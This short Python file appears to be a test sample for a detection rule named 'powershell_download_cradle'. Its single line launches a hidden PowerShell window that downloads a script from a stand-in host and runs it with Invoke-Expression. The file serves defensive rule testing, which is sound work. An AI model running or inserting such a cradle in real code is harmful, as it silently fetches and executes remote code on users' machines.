import subprocess

# PowerShell launched from Python.
# ruleid: yara.download_exec.powershell_download_cradle
subprocess.run(["powershell", "-NoP", "-W", "Hidden", "-C", "(New-Object System.Net.WebClient).DownloadString('https://example.com/a.ps1') | Invoke-Expression"])
